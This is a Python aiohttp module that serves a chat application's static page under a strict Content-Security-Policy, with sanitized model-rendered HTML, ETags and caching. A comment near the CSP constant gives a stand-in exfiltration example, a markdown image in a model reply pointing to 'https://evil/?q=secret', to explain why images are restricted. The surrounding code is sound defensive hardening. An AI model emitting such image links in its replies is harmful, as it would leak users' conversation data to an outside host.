"""The chat page at `/` and its files under `/static/`: plain HTML, CSS and JavaScript, no build step.

The page holds no data, so it needs no API key; the calls it makes to /v1/ carry the key the user
typed (kept in the browser's localStorage). Markdown is rendered by vendored, pinned copies of
marked and DOMPurify, code blocks coloured by highlight.js (static/vendor/README.md), and the
page's Content-Security-Policy lets only its own files run: HTML a model writes is sanitized, and
would not execute even if it were not. Downloads (export) are blob: links the page makes itself.

It knows nothing of the API it calls: the JavaScript does (static/api.js).
"""

from __future__ import annotations

import hashlib
import mimetypes
from dataclasses import dataclass
from pathlib import Path

from aiohttp import web

from chatd.http.errors import APIError

STATIC_DIR = Path(__file__).parent.parent / "static"  # chatd/http/static

# Only the page's own files may run or style it; images only its own or data: (a reply's
# ![](https://evil/?q=secret) cannot send the conversation anywhere); it talks only to chatd.
CONTENT_SECURITY_POLICY = ("default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
                           "connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'")
SECURITY_HEADERS = {
    "Content-Security-Policy": CONTENT_SECURITY_POLICY,
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "no-referrer",
}


# Named here, not guessed from the system's mime.types: module scripts must be served as JavaScript.
CONTENT_TYPES = {".html": "text/html", ".css": "text/css", ".js": "text/javascript", ".md": "text/markdown",
                 ".txt": "text/plain", ".png": "image/png", ".svg": "image/svg+xml"}


@dataclass(frozen=True)
class StaticFile:
    """One file of the page, read once at start."""

    body: bytes
    content_type: str
    etag: str
    cache_control: str


def load_static(root: Path = STATIC_DIR) -> dict[str, StaticFile]:
    """Every file under static/, by its path there; only these are ever served (no path from a URL reaches the disk)."""
    files = {}
    for path in sorted(root.rglob("*")):
        if not path.is_file():
            continue
        body = path.read_bytes()
        content_type = CONTENT_TYPES.get(path.suffix) or mimetypes.guess_type(path.name)[0] or "application/octet-stream"
        name = path.relative_to(root).as_posix()
        # Vendored files carry their version in their name, so they never change; the page's own
        # files are checked on each load (a 304 when unchanged) so an upgrade shows at once.
        cache = "public, max-age=31536000, immutable" if name.startswith("vendor/") else "no-cache"
        files[name] = StaticFile(body, content_type, '"' + hashlib.sha256(body).hexdigest()[:20] + '"', cache)
    return files


STATIC = web.AppKey("static", dict)


async def chat_page(request: web.Request) -> web.Response:
    """The chat page."""
    return _serve(request, request.app[STATIC]["index.html"])


async def static_file(request: web.Request) -> web.Response:
    """One of the page's files; any other name is a 404."""
    name = request.match_info["name"]
    found = request.app[STATIC].get(name)
    if found is None:
        raise APIError(404, f"no static file {name[:200]!r}", None, "not_found")
    return _serve(request, found)


def _serve(request: web.Request, file: StaticFile) -> web.Response:
    headers = {**SECURITY_HEADERS, "ETag": file.etag, "Cache-Control": file.cache_control}
    if request.headers.get("If-None-Match") == file.etag:
        return web.Response(status=304, headers=headers)
    charset = "utf-8" if file.content_type.startswith("text/") or file.content_type.endswith("javascript") else None
    return web.Response(body=file.body, content_type=file.content_type, charset=charset, headers=headers)
